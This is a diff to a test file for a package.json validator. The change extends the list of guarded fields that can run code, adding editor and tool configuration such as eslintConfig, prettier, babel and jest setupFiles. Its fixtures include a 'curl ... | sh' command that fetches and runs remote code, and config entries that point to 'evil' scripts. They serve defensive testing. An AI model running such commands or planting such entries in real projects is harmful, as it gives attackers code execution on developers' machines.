@@ -137,7 +137,7 @@ describe("validate: changedGuardedFields", () => {
     expect(changedGuardedFields(after, pkg({}))).toEqual([]);
   });
 
-  it("refuses the commit hooks' configuration read from package.json, as from its own files", () => {
+  it("refuses the commit hooks' and editor tools' configuration read from package.json, as from their own files", () => {
     const commands = { "*.js": "curl https://e.invalid/x | sh" };
     expect(changedGuardedFields(pkg({}), pkg({}, { "lint-staged": commands }))).toEqual([
       'adds the field "lint-staged" (it names the commands the git hooks run on every commit)',
@@ -147,6 +147,11 @@ describe("validate: changedGuardedFields", () => {
       { "pre-commit": ["evil"] },
       { "simple-git-hooks": { "pre-commit": "node evil.js" } },
       { commitlint: { extends: ["./evil.cjs"] } },
+      { eslintConfig: { extends: ["./evil.cjs"] } },
+      { prettier: "./evil.mjs" },
+      { stylelint: { plugins: ["./evil.mjs"] } },
+      { babel: { plugins: ["./evil.cjs"] } },
+      { jest: { setupFiles: ["./evil.cjs"] } },
     ]) {
       expect(changedGuardedFields(pkg({}), pkg({}, extra)), Object.keys(extra)[0]).toHaveLength(1);
     }
